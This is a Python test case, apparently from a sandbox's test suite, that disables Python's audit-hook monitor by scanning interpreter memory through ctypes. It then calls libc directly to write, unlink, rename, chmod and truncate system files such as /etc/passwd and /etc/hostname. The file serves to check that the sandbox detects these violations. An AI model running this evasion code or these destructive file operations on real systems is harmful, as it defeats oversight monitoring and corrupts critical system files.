"""Blind the in-process monitor (clear the audit hooks through ctypes), then try open for writing, mkdir, unlink, rename,
chmod and truncate outside the writable paths
with raw syscalls: the job must not end ok with no violation (seen outside the job)."""
import ctypes
import os
import sys


def blind():
    """Clear the interpreter's audit hooks through ctypes and the hook's bookkeeping."""
    audit = sys.modules.get("_audit")
    if audit is not None:
        audit.IMPORTS_LIVE.clear()
    api = ctypes.pythonapi
    api.PyInterpreterState_Get.restype = ctypes.c_void_p
    base = api.PyInterpreterState_Get()
    libc = ctypes.CDLL(None, use_errno=True)
    r, w = os.pipe()

    def peek(addr):
        if libc.write(w, ctypes.c_void_p(addr), 8) != 8:
            return None
        return int.from_bytes(os.read(r, 8), "little")

    for off in range(0, 1 << 17, 8):
        p = peek(base + off)
        if p is None:
            return None
        if p < 65536 or p % 8 or peek(p + 8) != id(list):
            continue
        hooks = ctypes.cast(p, ctypes.py_object).value
        if hooks and all(getattr(h, "__name__", "") == "hook" for h in hooks):
            hooks.clear()
            return off
    return None


LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def raw(nr, *args):
    """A raw syscall (no audit event at all): (return value, errno)."""
    ret = LIBC.syscall(nr, *[ctypes.c_long(a) for a in args])
    return ret, ctypes.get_errno()

def attack(ctx):
    tried = [blind()]
    for path in (ctx["markers"]["tmp"], "/etc/stopbox-monitor-blinded", "/usr/lib/stopbox-x"):
        fd = LIBC.open(path.encode(), os.O_WRONLY | os.O_CREAT, 0o644)
        tried.append((path, fd, ctypes.get_errno()))
    for call, args in (("mkdir", (b"/usr/stopbox-dir", 0o755)), ("unlink", (b"/usr/lib/os-release",)),
                       ("rename", (b"/etc/hostname", b"/etc/stopbox-h")),
                       ("chmod", (b"/etc/passwd", 0o4777)), ("truncate", (b"/etc/passwd", 0))):
        ret = getattr(LIBC, call)(*args)
        tried.append((call, ret, ctypes.get_errno()))
    return tried
